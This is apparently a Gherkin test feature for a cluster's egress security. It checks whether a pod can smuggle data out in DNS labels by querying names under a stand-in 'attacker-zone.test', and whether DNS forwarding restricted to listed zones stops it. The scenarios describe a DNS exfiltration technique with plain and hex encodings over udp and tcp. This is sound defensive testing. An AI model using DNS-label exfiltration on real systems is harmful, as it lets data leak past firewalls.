@egress
Feature: Data does not leave in names
  Every server may ask cluster DNS, and an unchanged cluster DNS forwards every name that is not the cluster's own. A
  name is a message: what stands in its labels reaches the name server of its zone, and that may be the attacker's. No
  list of domains is asked, and the gateway sees the node's resolver alone.

  Background:
    Given the firewall denies and logs what no policy permits

  # The published design lets these queries out. The zone's name server writes a receipt of each.
  @EGR-46
  Scenario: Data in DNS labels leaves through cluster DNS, and is a finding
    Given the orchestrator runs the server "weather", whose list holds "api.weather-service.test"
    When as a control, the pod of "weather" asks cluster DNS for "api.weather-service.test"
    And the pod of "weather" asks cluster DNS for names below "attacker-zone.test" that carry a record
      | encoding | transport | queries |
      | plain    | udp       | 1       |
      | plain    | tcp       | 1       |
      | plain    | udp       | 4       |
      | hex      | udp       | 1       |
      | hex      | tcp       | 1       |
      | hex      | udp       | 4       |
    Then nothing of it is resolved beyond the cluster, or it is a finding that "cluster DNS that forwards the zones of the servers' lists alone, and a log of its queries" compensates for

  # The compensating control, as a Corefile with a server block per zone and none for the root.
  @EGR-46
  Scenario: Cluster DNS that forwards listed zones alone keeps data in DNS labels inside
    Given cluster DNS forwards queries for "weather-service.test" alone
    And the orchestrator runs the server "weather", whose list holds "api.weather-service.test"
    When as a control, the pod of "weather" asks cluster DNS for "api.weather-service.test"
    And the pod of "weather" asks cluster DNS for names below "attacker-zone.test" that carry a record
      | encoding | transport | queries |
      | plain    | udp       | 1       |
      | plain    | tcp       | 1       |
      | hex      | udp       | 1       |
      | hex      | udp       | 4       |
    Then nothing of it is resolved beyond the cluster
